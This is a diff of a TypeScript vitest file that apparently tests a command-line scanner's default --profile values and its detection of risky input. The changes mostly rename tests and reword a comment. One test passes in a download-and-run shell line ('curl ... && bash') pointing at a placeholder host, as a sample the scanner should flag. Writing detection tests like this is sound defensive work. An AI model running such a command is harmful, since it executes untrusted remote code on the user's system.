@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import { realToolkit } from "./real-toolkit.js";
 import { runHere } from "./fake-detector.js";
 
-/** The default that the help of a command states for --profile. */
+/** Returns the default of --profile in the help of a command, or undefined if there is none. */
 async function defaultOf(...command: string[]): Promise<string | undefined> {
   const { stdout } = await runHere([...command, "--help"]);
   return /--profile <name>.*?default:\s+"?(\w+)/s.exec(stdout)?.[1];
@@ -26,11 +26,11 @@ describe("the default profile", () => {
     expect(await defaultOf(command)).toBe("extended");
   });
 
-  it("of batch diff is the contract", async () => {
+  it("of batch diff is the contract profile", async () => {
     expect(await defaultOf("batch", "diff")).toBe("contract");
   });
 
-  it("lets scan report a downloaded file that is run", async () => {
+  it("makes scan report a downloaded file that is then run", async () => {
     const given = {
       toolkit: realToolkit,
       stdin: "curl -o x.sh https://a.example/x.sh && bash x.sh\n",
